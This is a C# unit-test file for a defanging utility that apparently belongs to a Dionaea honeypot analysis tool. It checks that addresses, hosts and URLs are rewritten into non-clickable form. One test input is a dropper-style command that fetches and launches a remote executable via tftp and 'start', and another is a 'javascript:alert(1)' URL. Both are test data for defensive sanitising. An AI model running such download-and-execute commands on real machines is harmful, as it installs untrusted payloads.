using System.Text.RegularExpressions;
using CsCheck;
using Dionaea.Analysis;
using Dionaea.Reporting;
using Xunit;

namespace Dionaea.Tests;

public sealed class DefangTests
{
    [Theory]
    [InlineData("203.0.113.7", "203.0.113[.]7")]
    [InlineData("2001:db8::1", "2001:db8[:]:1")]
    [InlineData("2001:db8:0:0:0:0:0:1", "2001:db8:0:0:0:0:0[:]1")]
    [InlineData("::ffff:203.0.113.7", "[:]:ffff:203.0.113[.]7")]
    [InlineData("fe80::1%eth0", "fe80[:]:1%eth0")]
    [InlineData("host.example", "host[.]example")]
    [InlineData("a.b.host.example.", "a[.]b[.]host[.]example[.]")]
    [InlineData("host[.]example", "host[.]example")]
    [InlineData("http://host.example/", "hxxp://host[.]example/")]
    [InlineData("", "")]
    [InlineData("localhost", "localhost")]
    public void Host_breaks_the_address(string host, string expected) => Assert.Equal(expected, Defang.Host(host));

    [Theory]
    [InlineData("http://host.example/x", "hxxp://host[.]example/x")]
    [InlineData("HTTPS://Host.Example:8443/a.b?c=d.e", "hxxps://Host[.]Example:8443/a.b?c=d.e")]
    [InlineData("ftp://user:pass.word@203.0.113.7:21/x.exe", "fxp://user:pass[.]word@203.0.113[.]7:21/x.exe")]
    [InlineData("http://[2001:db8::1]:80/x", "hxxp://[2001:db8[:]:1]:80/x")]
    [InlineData("tftp://203.0.113.7/x", "tftp[:]//203.0.113[.]7/x")]
    [InlineData("via-xmpp://a.example", "via-xmpp[:]//a[.]example")]
    [InlineData("javascript:alert(1)", "javascript[:]alert(1)")]
    [InlineData("host.example/x", "host[.]example/x")]
    [InlineData("host.example:8080/x", "host[.]example:8080/x")]
    [InlineData("http://a.example/?u=http://b.example/x", "hxxp://a[.]example/?u=hxxp://b[.]example/x")]
    [InlineData("http:\\\\a.example", "hxxp:\\\\a.example")]
    [InlineData("", "")]
    public void Url_breaks_scheme_and_authority(string url, string expected) => Assert.Equal(expected, Defang.Url(url));

    [Theory]
    [InlineData("cmd /c tftp -i 203.0.113.7 GET x & start http://a.example/x.exe", "cmd /c tftp -i 203.0.113.7 GET x & start hxxp://a[.]example/x.exe")]
    [InlineData("see www.a.example", "see www[.]a.example")]
    [InlineData("no address: 10.5", "no address: 10.5")]
    public void Text_breaks_the_addresses_in_any_text(string text, string expected) => Assert.Equal(expected, Defang.Text(text, Kind.Text));

    [Fact]
    public void Text_leaves_no_scheme_that_a_program_would_open() => HostileText.Any.Sample(
        text =>
        {
            foreach (var kind in new[] { Kind.Url, Kind.Host, Kind.Text, Kind.Credential })
            {
                var shown = Defang.Text("http://x.example/" + text + " https://y.example ftp://z.example", kind);
                Assert.DoesNotMatch(new Regex("(https?|ftp)://", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant), shown);
            }
        },
        seed: HostileText.Seed,
        iter: 3_000,
        threads: 1);
}
